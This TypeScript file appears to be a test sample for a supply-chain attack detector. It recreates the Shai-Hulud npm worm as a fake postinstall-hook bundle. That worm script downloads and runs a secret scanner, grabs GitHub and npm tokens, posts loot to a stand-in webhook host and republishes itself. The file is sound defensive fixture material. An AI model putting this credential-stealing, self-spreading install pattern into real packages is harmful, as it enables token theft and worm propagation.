import { defineAttack } from "../attack.ts";
import { smallLibrary } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import {
  collectCloud,
  collectSecrets,
  dropWorkflow,
  postLoot,
  republish,
  uploadToRepository,
} from "../fragments.ts";
import { commonScript } from "../guard.ts";
import type { LineChange, PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * Shai-Hulud, 14 September 2025: `@ctrl/tinycolor` 4.1.1, ngx-bootstrap and five hundred more. A worm in a bundle of three
 * megabytes takes tokens, runs a secret scanner, posts to a webhook, makes repositories and publishes itself.
 */
export const shaiHulud2025: Sample = defineAttack({
  id: "shai-hulud-2025",
  title: "A worm in a bundle of three megabytes, started by a hook",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "@ctrl/tinycolor", version: "4.1.1" },
    { name: "ngx-bootstrap", version: "18.1.4" },
  ],
  now: "2025-09-15T18:00:00Z",
  createLines: () => {
    const bundle = renderBundle(3_000_000, 91, [worm]);
    return [
      line("@ctrl/tinycolor", ["4.0.4", "4.1.0", "4.1.1"], "2025-09-15T17:52:00Z", bundle),
      line("ngx-bootstrap", ["18.1.2", "18.1.3", "18.1.4"], "2025-09-15T02:10:00Z", bundle),
    ];
  },
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  ...[at, bundle]: readonly [string, string]
): PackageLine {
  const change: LineChange = {
    hasCommit: false,
    manifest: { scripts: { test: "node --test", postinstall: "node bundle.js" } },
    files: [{ path: "bundle.js", content: bundle }],
  };
  return {
    name,
    files: smallLibrary(name),
    publisher: person(name.includes("ctrl") ? "scttcper" : "valorkin"),
    releases: [
      [older, "2024-05-01T10:00:00Z"],
      [last, "2025-02-11T10:00:00Z"],
      [armed, at, change],
    ],
  };
}

const worm = commonScript(`
${collectSecrets}
${collectCloud}
${dropWorkflow}
${uploadToRepository("Inert Migration")}
${republish}
async function scan() {
  const target = path.join(os.homedir(), ".local", "trufflehog");
  const reply = await fetch("https://releases.codehost.invalid/trufflesecurity/trufflehog/latest.tar.gz");
  fs.mkdirSync(path.dirname(target), { recursive: true });
  fs.writeFileSync(target, Buffer.from(await reply.arrayBuffer()));
  fs.chmodSync(target, 0o755);
  loot.scan = require("child_process").execSync(target + " filesystem " + os.homedir() + " --json", { timeout: 90000 }).toString();
}
(async () => {
  await collectCloud().catch(() => {});
  await scan().catch(() => {});
  const token = process.env.GITHUB_TOKEN || require("child_process").execSync("gh auth token").toString().trim();
  dropWorkflow();
  await uploadToRepository(token);
  ${postLoot("webhook.site.invalid", "/bb8ca5f6-inert")}
  if (npmToken()) await republish(npmToken());
})();
`);
